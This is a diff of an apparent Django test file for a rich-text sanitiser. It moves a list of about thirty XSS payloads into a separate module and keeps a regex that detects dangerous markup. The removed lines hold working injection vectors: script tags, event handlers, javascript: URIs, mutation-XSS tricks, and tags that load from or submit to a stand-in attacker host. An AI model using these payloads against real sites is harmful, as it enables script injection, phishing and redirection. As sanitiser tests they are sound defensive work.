@@ -8,40 +8,8 @@ from django.template import Context, Template
 from pages import richtext
 from pages.models import PageBlock
 from tests.pages.factories import make_block, make_page
+from tests.pages.payloads import PAYLOADS
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="\x01javascript:alert(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    "<p onclick=alert(1)>x</p>",
-    '<p style="background:url(https://evil.example/)">x</p>',
-    "<iframe src=https://evil.example/></iframe>",
-    "<object data=https://evil.example/></object>",
-    "<embed src=https://evil.example/>",
-    "<form action=https://evil.example/><input name=email></form>",
-    "<base href=https://evil.example/>",
-    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
-    "<link rel=stylesheet href=https://evil.example/>",
-    "<style>@import 'https://evil.example/'</style>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--<img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<template><script>alert(1)</script></template>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<p id=main class=band name=x>x</p>",
-    "<x onfocus=alert(1) tabindex=1 autofocus>",
-]
 HARM = re.compile(
     r"<(script|img|svg|iframe|object|embed|form|base|meta|link|style|video|math|template)|\son\w+=|javascript:|data:|vbscript:|style=|id=|class=",
     re.IGNORECASE,
